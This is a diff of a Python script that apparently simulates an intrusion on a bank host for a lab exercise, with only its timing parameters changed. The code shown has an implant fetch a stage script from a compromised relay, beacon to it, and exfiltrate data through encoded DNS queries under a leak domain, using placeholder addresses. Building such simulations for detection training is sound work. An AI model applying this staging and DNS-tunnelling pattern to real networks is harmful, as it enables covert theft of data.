@@ -23,7 +23,7 @@ from stage.net import offloads_off
 RELAY, BANK, DNS_B, WEB_B = "198.51.100.7", "203.0.113.10", "198.51.100.53", "198.51.100.80"
 NAMES = {"www.harbour-news.example": WEB_B, "ticker.harbour-news.example": WEB_B, "online.bank-of-c.example": BANK}
 LEAK = "t.tide-metrics.example"
-BEACONS, BEACON_S = 18, 4.0
+BEACONS, BEACON_S = 14, 4.0
 QUERIES = 96
 
 # The implant's "script": what the relay hands out, and it does what it says.
@@ -187,7 +187,7 @@ def implant():
     rhythm = random.Random(1404)
     status, stage = fetch(RELAY, "/u/heron.sh", 8080, agent="curl/7.88.1")
     say(f"event the bank's host fetched the implant's stage from the relay (status {status}, {len(stage)} bytes)")
-    leak = threading.Timer(12, exfiltrate)
+    leak = threading.Timer(7, exfiltrate)
     leak.start()
     start = time.monotonic()
     for n in range(BEACONS):
@@ -207,7 +207,7 @@ def exfiltrate():
         look_up(RELAY, f"{label}.{n:x}.{LEAK}")
         if n in (0, QUERIES - 1):
             say(f"event name {n + 1} of {QUERIES} under {LEAK} asked by the bank's host at the relay")
-        time.sleep(rhythm.uniform(0.2, 0.75))
+        time.sleep(rhythm.uniform(0.2, 0.65))
 
 
 # ---- party B: the relay that was taken over, and two honest servers ----
